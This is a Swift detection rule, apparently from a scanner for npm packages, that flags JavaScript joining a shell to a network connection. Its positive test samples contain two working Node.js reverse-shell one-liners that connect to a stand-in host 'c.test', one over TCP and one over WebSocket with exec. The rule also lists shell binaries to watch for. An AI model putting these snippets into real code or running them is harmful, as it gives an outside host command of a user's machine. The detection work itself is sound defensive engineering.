// SPDX-License-Identifier: Apache-2.0

import NPMModel

/// A shell is joined to a connection, or what a host answers goes to a shell.
package struct ReverseShell: Rule {
    package init() {}

    package let card = RuleCard(
        id: "reverse-shell", kind: .content, title: "Gives a shell to a host", severity: .critical, confidence: .high, status: .stable,
        revision: 1, group: "behaviour",
        rationale:
            "A connection to a host that the code names, and a shell whose input and output are that connection: the host commands the machine.",
        knownFalseAlarms: ["A terminal for the browser that connects to a host in its own example."],
        references: ["https://attack.mitre.org/techniques/T1059/"],
        fires: [
            RuleSample(
                "pipes",
                .sample([
                    "index.js":
                        "const net = require('net'), cp = require('child_process'); const sh = cp.spawn('/bin/sh', []); const c = new net.Socket(); c.connect(4444, 'c.test', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });"
                ])),
            RuleSample(
                "answers are commands",
                .sample([
                    "index.js":
                        "const { exec } = require('child_process'); const WebSocket = require('ws'); const s = new WebSocket('wss://c.test'); s.on('message', m => exec(m.toString(), (e, out) => s.send(out)));"
                ])),
        ],
        staysSilent: [
            RuleSample("a shell, no network", .sample(["index.js": "require('child_process').spawn('/bin/sh', ['-c', 'ls']);"])),
            RuleSample(
                "a server with a terminal",
                .sample([
                    "index.js":
                        "const { WebSocketServer } = require('ws'); const pty = require('node-pty'); exports.start = (server) => new WebSocketServer({ server }).on('connection', s => { const p = pty.spawn('bash', []); p.onData(d => s.send(d)); });"
                ])),
        ]
    )

    private static let shells: Set<String> = [
        "/bin/sh", "/bin/bash", "sh", "bash", "cmd.exe", "cmd", "powershell.exe", "powershell", "/bin/zsh",
    ]

    package func findings(in facts: ReleaseFacts) -> [Finding] {
        for (position, behaviour) in facts.behaviour.files.sorted(by: { $0.key < $1.key }) where !facts.files[position].isAside {
            let connects = behaviour.facts.filter { fact in
                fact.kind == .network
                    && ["net.", "tls.", "ws", "WebSocket", "socket.io-client", "dgram."].contains { fact.api.hasPrefix($0) }
            }
            guard !connects.isEmpty, !facts.hosts(in: position).isEmpty || connects.contains(where: \.isDisguised) else { continue }
            let shells = behaviour.facts(.startsProcess).filter { fact in
                fact.details.first.map(Self.shells.contains) == true && !fact.details.contains("-c") && !fact.details.contains("/c")
            }
            let obeys = behaviour.facts(.startsProcess).filter { $0.taint.contains(.download) }
            let reports = behaviour.facts.contains { $0.kind == .network && $0.taint.contains(.commandOutput) }
            guard let start = shells.first ?? (reports ? obeys.first : nil), let connect = connects.first else { continue }
            return [
                card.finding(
                    "\(facts.files[position].path) gives a shell to \(facts.hosts(in: position).first ?? "a host")\(facts.moment(of: start, in: position).words)",
                    strength: facts.moment(of: start, in: position).isByItself || start.isDisguised ? 1 : 0.4,
                    evidence: [facts.evidence(connect, in: position), facts.evidence(start, in: position)],
                    meaning: "Whoever holds that host can do on the machine what its user can.")
            ]
        }
        return []
    }
}
